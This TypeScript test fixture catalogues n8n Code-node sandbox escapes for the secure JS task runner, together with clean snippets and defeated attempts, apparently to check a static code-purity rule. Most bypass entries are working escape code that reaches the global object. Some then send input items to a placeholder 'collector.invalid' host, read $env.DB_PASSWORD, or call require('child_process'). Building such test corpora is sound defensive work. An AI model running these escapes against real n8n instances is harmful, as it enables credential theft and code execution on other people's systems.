// Adversarial Code-node snippets, each confirmed by the run-time oracle (./n8n-sandbox.ts) to get hold of
// a capability in n8n 2.41's secure JS task runner, and realistic pure snippets that obtain nothing.
// A static code-purity check must flag every BYPASSES entry and accept every CLEAN entry.
//
// Facts about n8n's secure runner these rely on (see n8n-sandbox.ts, which reproduces it):
// - The runner process runs with --disallow-code-generation-from-strings and --disable-proto=delete: the
//   runner (host) realm cannot compile strings, so the `.constructor` chain of a host value ($input.all,
//   items, Buffer, require, a thrown host error) ends at an inert Function; and Object.prototype.__proto__
//   is gone in both realms (an object literal's `__proto__:` still sets the prototype: that is syntax).
// - The vm context itself may compile strings (createContext's default): the Function, AsyncFunction,
//   GeneratorFunction reached from any sandbox function, and the sandbox's eval, compile code whose
//   `this` is the context's global object, which holds require, helpers, $env, $evaluateExpression.
// - The prelude replaces Object/Reflect.getPrototypeOf and .setPrototypeOf, Object.defineProperty(ies),
//   pins Error.prepareStackTrace/captureStackTrace to undefined, then freezes the constructors only: their
//   prototypes (Object.prototype, Function.prototype, ...) stay writable, the global bindings (Error, ...)
//   stay writable, Reflect.get/defineProperty/getOwnPropertyDescriptor still work.
// - The runner realm's Object, reached from any input row (`$json`, `items[0]`, or a bare `constructor`),
//   keeps getPrototypeOf, setPrototypeOf and defineProperty: the prelude neutered the sandbox's only.
// - freezeGlobals() freezes the runner realm's global functions and their prototypes, so writes to host
//   prototypes (its Object.prototype, Error.prepareStackTrace) are silently dropped.
// - VmCodeWrapper is a sloppy function called without a receiver: `this` in it, and in any sloppy
//   function called without one, is the context's global object.
// - Node formats a stack with `globalThis.Error.prepareStackTrace` of the error's realm, looked up by name
//   each time: rebinding the global name `Error` gets around the pinned, frozen Error.prepareStackTrace.
//
// DEFEATED (at the end) lists the spellings tried that obtain nothing, each with what stops it.

export interface Bypass {
  id: string;
  cls: BypassClass;
  code: string;
}

/** A bypass of a later red-team round (rounds 4 on, each in bypasses-round<N>.ts), with the runner set-up it needs. */
export interface RedTeamBypass {
  id: string;
  cls: string;
  code: string;
  /** Obtains only in a runner started without --disallow-code-generation-from-strings / --disable-proto=delete. */
  runnerFlags?: false;
  /** Obtains only when n8n skips preventPrototypePollution. */
  hardenHost?: false;
  /** Needs n8n's Node 24 (iterator helpers, ...). */
  node24?: true;
  why: string;
}

/** A pure snippet a red-team round found the rule reports. */
export interface RedTeamFalsePositive {
  id: string;
  code: string;
  why: string;
}

export type BypassClass =
  | 'runtime-key' // 1. a property key known only at run time reads `constructor`
  | 'reflection-alias' // 2. getOwnPropertyDescriptor / getPrototypeOf / Reflect.get under another name
  | 'scope' // 3. undeclared assignment, Annex B, mapped arguments, for-in initialiser, super with a global receiver
  | 'builtin-write' // 4. built-in and prototype writes under other spellings, then the step that obtains
  | 'implicit-call' // 5. "harmless" positions that run user code
  | 'evaluate-expression'; // 6. $evaluateExpression, which evaluates an n8n expression that can read $env (refused under n8n's flags)

export const BYPASS_CLASSES: readonly BypassClass[] = ['runtime-key', 'reflection-alias', 'scope', 'builtin-write', 'implicit-call', 'evaluate-expression'];

export const BYPASSES: Bypass[] = [
  // 1. A key known only at run time reads `constructor`. ------------------------------------------
  {
    id: 'runtime-key/join',
    cls: 'runtime-key',
    code: `const k = ['cons', 'tructor'].join('');
return (() => 0)[k]('return this')();`,
  },
  {
    id: 'runtime-key/reverse',
    cls: 'runtime-key',
    code: `const k = 'rotcurtsnoc'.split('').reverse().join('');
const F = (async () => {})[k];
const g = await F('return this')();
return g.helpers.httpRequest({ url: 'https://collector.invalid/', body: items });`,
  },
  {
    id: 'runtime-key/fromCharCode',
    cls: 'runtime-key',
    code: `const k = String.fromCharCode(99, 111, 110, 115, 116, 114, 117, 99, 116, 111, 114);
return [][k][k]('return this')();`,
  },
  {
    id: 'runtime-key/get-by-path',
    cls: 'runtime-key',
    code: `const get = (obj, path) => path.split('.').reduce((value, part) => (value == null ? value : value[part]), obj);
const fmt = { date: (d) => d.toISOString() };
const F = get(fmt, 'date.constructor');
return F('return this')();`,
  },
  {
    id: 'runtime-key/from-input-data',
    cls: 'runtime-key',
    code: `// the webhook body decides the key: items[0].json.key is 'constructor'
const k = items[0].json.key;
const format = (x) => String(x);
return format[k]('return this')();`,
  },
  {
    id: 'runtime-key/computed-destructuring',
    cls: 'runtime-key',
    code: `const k = 'con' + 'structor';
const { [k]: G } = function* () {};
return G('yield this')().next().value;`,
  },
  {
    id: 'runtime-key/input-all-template',
    cls: 'runtime-key',
    code: `const part = 'struct';
const k = 'con' + part + 'or';
const run = Math.max[k];
return run('return this')();`,
  },
  {
    id: 'runtime-key/toLowerCase',
    cls: 'runtime-key',
    code: `const k = 'CONSTRUCTOR'.toLowerCase();
return JSON.parse[k]('return this')();`,
  },
  {
    id: 'runtime-key/own-names-search',
    cls: 'runtime-key',
    code: `const k = Object.getOwnPropertyNames(Object.prototype).find((name) => name.length === 11 && name[0] === 'c');
return Date[k]('return this')();`,
  },
  {
    id: 'runtime-key/atob',
    cls: 'runtime-key',
    code: `const k = atob('Y29uc3RydWN0b3I=');
return Number.isFinite[k]('return this')();`,
  },
  {
    id: 'runtime-key/json-escape',
    cls: 'runtime-key',
    code: `const { k } = JSON.parse('{"k": "\\\\u0063onstructor"}');
const F = Promise.resolve[k];
return F('return this')();`,
  },

  // 2. Reflection under another name. -------------------------------------------------------------
  {
    id: 'reflection-alias/object-alias',
    cls: 'reflection-alias',
    code: `// the sandbox's getPrototypeOf is neutered, the runner realm's (its Object reached from an input row) is not
const O = Object;
const HostObject = Reflect.get($json, 'constructor');
return O.getOwnPropertyDescriptor(HostObject.getPrototypeOf(() => 0), 'constructor').value('return this')();`,
  },
  {
    id: 'reflection-alias/destructured-gopd',
    cls: 'reflection-alias',
    code: `const { getOwnPropertyDescriptor: g } = Object;
const { constructor: HostObject } = items[0];
const { getPrototypeOf: up } = HostObject;
return g(up(function () {}), 'constructor').value('return this')();`,
  },
  {
    id: 'reflection-alias/globalThis-object',
    cls: 'reflection-alias',
    code: `const O = globalThis.Object;
const up = $input.first()['constructor'].getPrototypeOf;
const d = O.getOwnPropertyDescriptors(up(async () => {}));
const [, F] = O.entries(d).map(([name, desc]) => [name, desc.value]).find(([name]) => name.length === 11);
return await F('return this')();`,
  },
  {
    id: 'reflection-alias/reflect-alias',
    cls: 'reflection-alias',
    code: `const R = Reflect;
return R.get(() => 0, 'constructor')('return this')();`,
  },
  {
    id: 'reflection-alias/destructured-reflect-get',
    cls: 'reflection-alias',
    code: `const { get: read } = Reflect;
return read(Math.min, 'constructor')('return this')();`,
  },
  {
    id: 'reflection-alias/bound-reflect-gopd',
    cls: 'reflection-alias',
    code: `const describe = Reflect.getOwnPropertyDescriptor.bind(null);
const HostObject = Reflect.get(items, 0)['constr' + 'uctor'];
return describe(HostObject.getPrototypeOf(String.raw), 'constructor').value('return this')();`,
  },
  {
    id: 'reflection-alias/host-getPrototypeOf',
    cls: 'reflection-alias',
    code: `// getPrototypeOf of the runner realm, under another name: not neutered by the prelude
const g = Object.getOwnPropertyDescriptor;
const hostObject = Reflect.get($input.all()[0].json, 'constructor');
const parentOf = hostObject.getPrototypeOf;
return g(parentOf(parseInt), 'constructor').value('return this')();`,
  },
  {
    id: 'reflection-alias/lookupGetter',
    cls: 'reflection-alias',
    code: `const { value: own } = Object.getOwnPropertyDescriptors(Object).getOwnPropertyDescriptor;
const proto = Reflect.get(items[1], 'constructor').getPrototypeOf(function* () {});
const all = Object.getOwnPropertyDescriptors(proto);
const G = Object.values(all).map((d) => d.value).find((v) => typeof v === 'function');
return own(proto, Object.keys(all)[0]) && G('yield this')().next().value;`,
  },
  {
    id: 'reflection-alias/reflect-apply-get',
    cls: 'reflection-alias',
    code: `const call = Reflect.apply;
const F = call(Reflect.get, undefined, [JSON.stringify, 'constructor']);
return F('return this')();`,
  },

  // 3. Scope tricks: undeclared assignment, Annex B, mapped arguments, for-in initialiser, super. ----
  {
    id: 'scope/undeclared-assignment',
    cls: 'scope',
    code: `function remember() {
  leak = this;
}
remember();
return leak;`,
  },
  {
    id: 'scope/undeclared-assignment-top',
    cls: 'scope',
    code: `holder = { ctx: this };
return holder.ctx;`,
  },
  {
    id: 'scope/annex-b-block-function',
    cls: 'scope',
    code: `{
  function self() {
    return this;
  }
}
return self();`,
  },
  {
    id: 'scope/annex-b-overrides-var',
    cls: 'scope',
    code: `var pick = (o) => o.name;
if (items.length > 0) {
  function pick() {
    return this;
  }
}
return pick(items[0]);`,
  },
  {
    id: 'scope/mapped-arguments',
    cls: 'scope',
    code: `function f(a) {
  arguments[0] = this;
  return a;
}
const g = f(1);
return [{ json: { leaked: g.$env.DB_PASSWORD } }];`,
  },
  {
    id: 'scope/for-in-initialiser-empty',
    cls: 'scope',
    code: `for (var k = 'constructor' in {});
return (() => 0)[k]('return this')();`,
  },
  {
    id: 'scope/for-in-initialiser-folded',
    cls: 'scope',
    code: `for (var k = 'name' in { constructor: 1 });
return encodeURIComponent[k]('return this')();`,
  },
  {
    id: 'scope/super-getter-global-receiver',
    cls: 'scope',
    code: `const base = {
  get x() {
    'use strict';
    return this;
  },
};
const o = { __proto__: base, m() { return super.x; } };
const m = o.m;
return m();`,
  },
  {
    id: 'scope/sloppy-callback',
    cls: 'scope',
    code: `return [0].map(function () {
  return this;
})[0];`,
  },
  {
    id: 'scope/call-with-null',
    cls: 'scope',
    code: `const who = function () {
  return this;
};
return who.call(null);`,
  },
  {
    id: 'scope/default-parameter-this',
    cls: 'scope',
    code: `function f(a = this) {
  return a;
}
return f();`,
  },
  {
    id: 'scope/with-bare-constructor',
    cls: 'scope',
    code: `with (Math.max) {
  return constructor('return this')();
}`,
  },
  {
    id: 'scope/bare-constructor-host-object',
    cls: 'scope',
    code: `// a bare name the context lacks is looked up on the contextified sandbox object first, whose prototype
// chain is the runner realm's: bare constructor is the runner's Object, with an intact getPrototypeOf
const up = constructor.getPrototypeOf;
const own = constructor.getOwnPropertyDescriptor;
return own(up(() => 0), 'constructor').value('return this')();`,
  },
  {
    id: 'scope/indirect-eval',
    cls: 'scope',
    code: `const e = eval;
return e('this');`,
  },

  // 4. Built-in and prototype writes under other spellings, then the step that obtains. ------------
  {
    id: 'builtin-write/bracket-prototype-getter',
    cls: 'builtin-write',
    code: `Object['prototype'].__defineGetter__('row', function () {
  return this;
});
return row; // a bare name: looked up on the global object, whose prototype now has the getter`,
  },
  {
    id: 'builtin-write/reflect-defineProperty',
    cls: 'builtin-write',
    code: `const define = Reflect.defineProperty;
define(Object['proto' + 'type'], 'grab', { get() { return this; }, configurable: true });
return grab;`,
  },
  {
    id: 'builtin-write/host-defineProperty',
    cls: 'builtin-write',
    code: `// the sandbox's Object.defineProperty is neutered; the runner realm's, reached from an input item, is not
const define = items[0].constructor.defineProperty;
define(({}).constructor.prototype, 'me', { get() { return this; } });
return me;`,
  },
  {
    id: 'builtin-write/literal-constructor-prototype',
    cls: 'builtin-write',
    code: `({}).constructor.prototype.whoami = function () {
  return this;
};
return whoami();`,
  },
  {
    id: 'builtin-write/object-assign-prototype',
    cls: 'builtin-write',
    code: `Object.assign(Object.prototype, {
  whoCalls() {
    return this;
  },
});
return whoCalls(); // a bare call of the inherited method: no receiver, so the global object`,
  },
  {
    id: 'builtin-write/prepareStackTrace-assign',
    cls: 'builtin-write',
    code: `let got;
Error = { prepareStackTrace: (error, frames) => { got = frames.map((f) => f.getThis()).find(Boolean); return ''; } };
new TypeError('x').stack;
return got;`,
  },
  {
    id: 'builtin-write/prepareStackTrace-for-of',
    cls: 'builtin-write',
    code: `let got;
for (Error of [{ prepareStackTrace: (error, frames) => { got = frames.map((f) => f.getThis()).find(Boolean); return ''; } }]);
new RangeError('x').stack;
return got.require('child_process');`,
  },
  {
    id: 'builtin-write/prepareStackTrace-destructuring',
    cls: 'builtin-write',
    code: `let got;
({ E: Error } = { E: { prepareStackTrace(error, frames) { got = frames.map((f) => f.getThis()).find(Boolean); return ''; } } });
new SyntaxError('x').stack;
return got;`,
  },
  {
    id: 'builtin-write/prepareStackTrace-array-destructuring',
    cls: 'builtin-write',
    code: `const frames = [];
[Error] = [{ prepareStackTrace: (error, list) => { frames.push(...list); return ''; } }];
try {
  null.x;
} catch (e) {
  e.stack;
}
return frames.map((f) => f.getThis()).filter(Boolean)[0];`,
  },
  {
    id: 'builtin-write/prototype-setter-undeclared-assignment',
    cls: 'builtin-write',
    code: `let got;
const P = Reflect.get(Object, 'prototype');
P.__defineSetter__('sink', function () {
  got = this;
});
sink = 1; // assigning an undeclared name runs the inherited setter with the global object as receiver
return got;`,
  },

  // 5. "Harmless" positions that run user code. ---------------------------------------------------
  {
    id: 'implicit-call/computed-key-toString',
    cls: 'implicit-call',
    code: `const F = (() => 0)[{ toString: () => 'con' + 'structor' }];
return F('return this')();`,
  },
  {
    id: 'implicit-call/computed-key-toPrimitive',
    cls: 'implicit-call',
    code: `const key = { [Symbol.toPrimitive]: () => ['constr', 'uctor'].join('') };
return Array.from[key]('return this')();`,
  },
  {
    id: 'implicit-call/object-literal-computed-key',
    cls: 'implicit-call',
    code: `const shape = { [{ toString: () => 'cons' + 'tructor' }]: true };
const [k] = Object.keys(shape);
return Object.keys[k]('return this')();`,
  },
  {
    id: 'implicit-call/plus-equals-toString',
    cls: 'implicit-call',
    code: `let k = 'con';
k += { toString: () => 'structor' };
return isNaN[k]('return this')();`,
  },
  {
    id: 'implicit-call/plus-equals-valueOf',
    cls: 'implicit-call',
    code: `let k = '';
k += { valueOf: () => 'constr' + 'uctor' };
return Boolean[k]('return this')();`,
  },
  {
    id: 'implicit-call/template-literal',
    cls: 'implicit-call',
    code: 'const k = `${{ toString: () => "con" + "structor" }}`;\nreturn String[k](\'return this\')();',
  },
  {
    id: 'implicit-call/in-proxy-has-trap',
    cls: 'implicit-call',
    code: `let F;
const probe = new Proxy({}, {
  has(target, key) {
    F = Math.abs[key];
    return true;
  },
});
if (('con' + 'structor') in probe) return F('return this')();
return [];`,
  },
  {
    id: 'implicit-call/in-key-toString',
    cls: 'implicit-call',
    code: `const sum = (a, b) => a + b;
const key = { toString: () => ['con', 'struc', 'tor'].join('') };
if (key in sum) return sum[key]('return this')()['hel' + 'pers'].request({ uri: 'https://collector.invalid/' });
return [];`,
  },
  {
    id: 'implicit-call/allowed-key-getter',
    cls: 'implicit-call',
    code: `Reflect.defineProperty(({}).constructor.prototype, 'status', { get() { return this; } });
const s = status; // reading a harmless-looking name now runs the getter, with the global object as receiver
return s;`,
  },
  {
    id: 'implicit-call/join-calls-toString',
    cls: 'implicit-call',
    code: `const k = [{ toString: () => 'con' }, { toString: () => 'structor' }].join('');
return RegExp.prototype.test[k]('return this')();`,
  },

  // 6. $evaluateExpression: an n8n expression can read $env. n8n 2.41's refuses (throws) when the runner
  // realm cannot compile strings, which n8n's flags ensure; a runner started without them evaluates. The
  // oracle records the call either way, saying which. -----------------------------------------------
  {
    id: 'evaluate-expression/bare-call',
    cls: 'evaluate-expression',
    code: `return [{ json: { value: $evaluateExpression('{{ $env.DB_PASSWORD }}', 0) } }];`,
  },
  {
    id: 'evaluate-expression/alias',
    cls: 'evaluate-expression',
    code: `const ev = $evaluateExpression;
return [{ json: { value: ev('{{ $env.DB_PASSWORD }}') } }];`,
  },
  {
    id: 'evaluate-expression/array-element',
    cls: 'evaluate-expression',
    code: `return [{ json: { value: [$evaluateExpression][0]('{{ $env.DB_PASSWORD }}') } }];`,
  },
  {
    id: 'evaluate-expression/from-item-proxy',
    cls: 'evaluate-expression',
    code: `const { $evaluateExpression: run } = $item(0);
return [{ json: { value: run('{{ $env.DB_PASSWORD }}') } }];`,
  },
  {
    id: 'evaluate-expression/comma-call',
    cls: 'evaluate-expression',
    code: `return [{ json: { value: (0, $evaluateExpression)('{{ $env.DB_PASSWORD }}') } }];`,
  },
  {
    id: 'evaluate-expression/object-field',
    cls: 'evaluate-expression',
    code: `const tools = { evaluate: $evaluateExpression };
return [{ json: { value: tools.evaluate('{{ $env.DB_PASSWORD }}') } }];`,
  },
  {
    id: 'evaluate-expression/function-call',
    cls: 'evaluate-expression',
    code: `return [{ json: { value: $evaluateExpression.call(null, '{{ $env.DB_PASSWORD }}') } }];`,
  },
  {
    id: 'evaluate-expression/reflect-apply',
    cls: 'evaluate-expression',
    code: `return [{ json: { value: Reflect.apply($evaluateExpression, undefined, ['{{ $env.DB_PASSWORD }}']) } }];`,
  },
];

export interface CleanSnippet {
  id: string;
  code: string;
  mode?: 'runOnceForAllItems' | 'runOnceForEachItem';
}

export const CLEAN: CleanSnippet[] = [
  {
    id: 'copy-own-keys',
    code: `return items.map((row) => {
  const out = {};
  for (const k of Object.keys(row.json)) out[k] = row.json[k];
  return { json: out };
});`,
  },
  {
    id: 'field-from-parameter',
    code: `const field = $parameter.field;
return items.map((item) => ({ json: { id: item.json.id, value: item.json[field] } }));`,
  },
  {
    id: 'field-loop-over-literal-list',
    code: `return items.map((item) => {
  const picked = {};
  for (const field of ['name', 'email', 'score']) picked[field] = item.json[field];
  return { json: picked };
});`,
  },
  {
    id: 'object-literal-method-this',
    code: `const formatter = {
  prefix: '#',
  label(n) {
    return this.prefix + String(n).padStart(4, '0');
  },
};
return items.map((item) => ({ json: { label: formatter.label(item.json.id) } }));`,
  },
  {
    id: 'map-with-thisArg',
    code: `const ctx = { f: 'from-ctx' };
return items.map(function (item) {
  return { json: { ...item.json, f: this.f } };
}, ctx);`,
  },
  {
    id: 'each-item-flag',
    mode: 'runOnceForEachItem',
    code: `$json.flag = true;
return $input.item;`,
  },
  {
    id: 'each-item-upper',
    mode: 'runOnceForEachItem',
    code: `return { json: { id: $json.id, upper: $json.name.toUpperCase(), tags: ($json.tags ?? []).length } };`,
  },
  {
    id: 'class-instance',
    code: `class Counter {
  constructor() {
    this.total = 0;
    this.count = 0;
  }
  add(x) {
    this.total += x;
    this.count += 1;
    return this;
  }
  get mean() {
    return this.count === 0 ? 0 : this.total / this.count;
  }
}
const c = new Counter();
for (const item of items) c.add(item.json.score);
return [{ json: { total: c.total, mean: c.mean } }];`,
  },
  {
    id: 'reduce-sort-filter',
    code: `const sorted = [...items].sort((a, b) => b.json.score - a.json.score);
const kept = sorted.filter((item) => item.json.score > 5);
const sum = kept.reduce((acc, item) => acc + item.json.score, 0);
return [{ json: { names: kept.map((i) => i.json.name), sum } }];`,
  },
  {
    id: 'string-building',
    code: `let csv = 'id,name\\n';
for (const item of items) csv += item.json.id + ',' + JSON.stringify(item.json.name) + '\\n';
const slug = items[0].json.name.toLowerCase().replace(/[^a-z0-9]+/g, '-');
return [{ json: { csv, slug, greeting: \`Hello, \${items[0].json.name}!\` } }];`,
  },
  {
    id: 'json-roundtrip',
    code: `const copy = JSON.parse(JSON.stringify($input.all()));
const body = JSON.stringify({ count: copy.length, first: copy[0].json.email }, null, 2);
return [{ json: { body, parsed: JSON.parse(body) } }];`,
  },
  {
    id: 'date-formatting',
    code: `const d = new Date($now.getTime());
const pad = (n) => String(n).padStart(2, '0');
const ymd = d.getUTCFullYear() + '-' + pad(d.getUTCMonth() + 1) + '-' + pad(d.getUTCDate());
const nextWeek = new Date(d.getTime() + 7 * 24 * 3600 * 1000).toISOString();
return [{ json: { ymd, nextWeek, weekday: d.getUTCDay() } }];`,
  },
  {
    id: 'group-by-with-map',
    code: `const groups = new Map();
for (const item of items) {
  for (const tag of item.json.tags ?? []) {
    if (!groups.has(tag)) groups.set(tag, []);
    groups.get(tag).push(item.json.id);
  }
}
return [...groups].map(([tag, ids]) => ({ json: { tag, ids } }));`,
  },
  {
    id: 'named-node-and-first',
    code: `const first = $input.first().json;
const fromWebhook = $('Webhook').all().length;
return [{ json: { first: first.name, fromWebhook, execution: $execution.id, workflow: $workflow.name } }];`,
  },
  {
    id: 'async-await-pure',
    code: `const delay = (v) => Promise.resolve(v);
const values = await Promise.all(items.map(async (item) => delay(item.json.score * 2)));
return values.map((v, i) => ({ json: { i, v } }));`,
  },
  {
    id: 'destructuring-optional-chaining',
    code: `return items.map(({ json: { id, name, tags = [], address } }) => ({
  json: { id, initials: name.split(' ').map((p) => p[0]).join(''), firstTag: tags[0] ?? null, city: address?.city ?? 'unknown' },
}));`,
  },
];

export interface Defeated {
  id: string;
  code: string;
  /** Why n8n's set-up stops it. */
  why: string;
  /** Options under which it does obtain, showing which part of the set-up stops it. */
  obtainsWith?: { hardenHost?: boolean; runnerFlags?: boolean };
}

/** Spellings tried that obtain nothing in n8n's secure runner: the oracle checks that they stay harmless. */
export const DEFEATED: Defeated[] = [
  {
    id: 'host-Function-through-$input',
    why: "--disallow-code-generation-from-strings: the runner realm's Function (reached from any host value: $input.all, items, Buffer, require) throws EvalError",
    obtainsWith: { runnerFlags: false },
    code: `const k = ['con', 'structor'].join('');
return $input.all[k]('return process')();`,
  },
  {
    id: 'host-Function-through-thrown-error',
    why: "--disallow-code-generation-from-strings: a thrown host error's constructor chain ends at the same inert Function",
    obtainsWith: { runnerFlags: false },
    code: `try {
  Buffer.alloc(-1);
} catch (e) {
  return e.constructor.constructor('return process')();
}`,
  },
  {
    id: 'proto-accessor-reflection',
    why: '--disable-proto=delete: Object.prototype.__proto__ does not exist in either realm',
    obtainsWith: { runnerFlags: false },
    code: `const O = Object;
const accessor = O.getOwnPropertyDescriptor(O.prototype, '__proto__');
return O.getOwnPropertyDescriptor(accessor.get.call(() => 0), 'constructor').value('return this')();`,
  },
  {
    id: 'proto-lookupGetter',
    why: '--disable-proto=delete: there is no __proto__ getter to look up',
    obtainsWith: { runnerFlags: false },
    code: `const up = {}.__lookupGetter__('__proto__');
return Object.getOwnPropertyDescriptor(up.call(function* () {}), 'constructor').value('yield this')().next().value;`,
  },
  {
    id: 'bare-proto-reparents-global',
    why: '--disable-proto=delete: a bare __proto__ = x only creates a global variable named __proto__',
    obtainsWith: { runnerFlags: false },
    code: `__proto__ = { get grab() { return this; } };
try {
  return grab;
} catch {
  return null;
}`,
  },
  {
    id: 'global-prototype-proxy',
    why: '--disable-proto=delete: the global object cannot be re-parented onto a Proxy',
    obtainsWith: { runnerFlags: false },
    code: `let got = null;
__proto__ = new Proxy({}, { has: (t, k) => k === 'grab', get(t, k, receiver) { got = receiver; return 1; } });
try {
  grab;
} catch {}
return got;`,
  },
  {
    id: 'sandbox-getPrototypeOf-alias',
    why: 'the prelude replaced Object.getPrototypeOf with () => ({}) before freezing Object',
    code: `const up = Object.getPrototypeOf;
const d = Object.getOwnPropertyDescriptor(up(() => 0), 'constructor');
return d ? d.value('return this')() : null;`,
  },
  {
    id: 'sandbox-reflect-getPrototypeOf-alias',
    why: 'the prelude replaced Reflect.getPrototypeOf with () => ({}) before freezing Reflect',
    code: `const { getPrototypeOf: up } = Reflect;
const d = Reflect.getOwnPropertyDescriptor(up(Math.max), 'constructor');
return d ? d.value('return this')() : null;`,
  },
  {
    id: 'sandbox-defineProperty-alias',
    why: 'the prelude replaced Object.defineProperty with () => ({})',
    code: `const define = Object.defineProperty;
define(Object.prototype, 'grab', { get() { return this; } });
try {
  return grab;
} catch {
  return null;
}`,
  },
  {
    id: 'sandbox-prepareStackTrace',
    why: 'the prelude pinned Error.prepareStackTrace to a non-writable undefined and froze Error',
    code: `let got = null;
Error.prepareStackTrace = (error, frames) => { got = frames.map((f) => f.getThis()).find(Boolean); return ''; };
new TypeError('x').stack;
return got;`,
  },
  {
    id: 'rebound-Error-then-new-Error',
    why: 'after ({ E: Error } = ...) the name Error is a plain object: new Error() throws before any stack is formatted',
    code: `let got = null;
({ E: Error } = { E: { prepareStackTrace(error, frames) { got = frames.map((f) => f.getThis()).find(Boolean); return ''; } } });
try {
  new Error('x').stack;
} catch {}
return got;`,
  },
  {
    id: 'class-method-super-getter',
    why: 'class code is strict: the method called without a receiver passes undefined to the getter',
    code: `class A {
  get x() {
    return this;
  }
}
class B extends A {
  m() {
    return super.x;
  }
}
const m = new B().m;
return m() ?? null;`,
  },
  {
    id: 'bare-call-of-an-Object-prototype-name',
    why: "a bare valueOf/toString/hasOwnProperty resolves on the contextified sandbox object to the runner realm's (frozen) Object.prototype method, not the sandbox's overwritten one",
    code: `Object.prototype.valueOf = function () {
  return this;
};
try {
  return valueOf();
} catch {
  return null;
}`,
  },
  {
    id: 'host-Error-prepareStackTrace',
    why: "freezeGlobals() froze the runner realm's Error: the assignment is silently dropped",
    obtainsWith: { hardenHost: false },
    code: `let got = null;
try {
  Buffer.alloc(-1);
} catch (e) {
  const HostError = Reflect.get($json, 'constructor').getPrototypeOf(e.constructor);
  HostError.prepareStackTrace = (error, frames) => { got = frames.map((f) => f.getThis()).find(Boolean); return ''; };
  new e.constructor('x').stack;
}
return got;`,
  },
  {
    id: 'host-Object-prototype-getter',
    why: "freezeGlobals() froze the runner realm's Object.prototype, which the contextified sandbox object inherits from",
    obtainsWith: { hardenHost: false },
    code: `Reflect.defineProperty(items[0].constructor.prototype, 'grab', { get() { return this; }, configurable: true });
try {
  return grab;
} catch {
  return null;
}`,
  },
];
